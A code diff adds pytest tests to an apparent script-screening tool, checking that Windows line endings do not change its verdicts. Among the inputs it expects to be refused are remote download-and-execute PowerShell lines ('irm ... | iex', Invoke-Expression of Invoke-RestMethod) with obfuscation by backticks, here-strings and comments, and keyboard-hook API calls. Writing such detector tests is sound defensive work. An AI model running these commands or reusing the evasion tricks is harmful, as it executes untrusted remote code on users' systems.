@@ -107,3 +107,29 @@ def test_windows_may_be_listed_by_a_declared_function(called: str) -> None:
 )
 def test_an_address_that_windows_calls_is_refused(called: str) -> None:
     assert script(LISTED.format(called=called)) is Verdict.FAIL
+
+
+def of_windows(code: str) -> str:
+    return code.replace("\n", "\r\n")
+
+
+def test_lines_may_end_as_windows_ends_them() -> None:
+    listed = LISTED.format(called="EnumWindows(Each e, IntPtr l)")
+    assert script(of_windows(listed)) is not Verdict.FAIL
+    assert script(of_windows(listed.replace("bool EnumWindows", "bool ShowWindow"))) is not Verdict.FAIL
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        LISTED.format(called="EnumWindows(IntPtr e, IntPtr l)"),
+        LISTED.format(called="SetWindowsHookEx(int k, Each e)"),
+        SOURCE.format(name="keybd_event", more=""),
+        "$u = 'https://boxes.example.invalid/a.ps1'\nInvoke-Expression `\n  (Invoke-RestMethod $u)\n",
+        '$text = @"\nirm https://boxes.example.invalid/a | iex\n"@\niex $text\n',
+        "<#\nA remark.\n#>\nirm https://boxes.example.invalid/a | `\n  iex\n",
+    ],
+)
+def test_what_is_refused_is_refused_whatever_ends_its_lines(code: str) -> None:
+    assert script(code) is Verdict.FAIL
+    assert script(of_windows(code)) is Verdict.FAIL
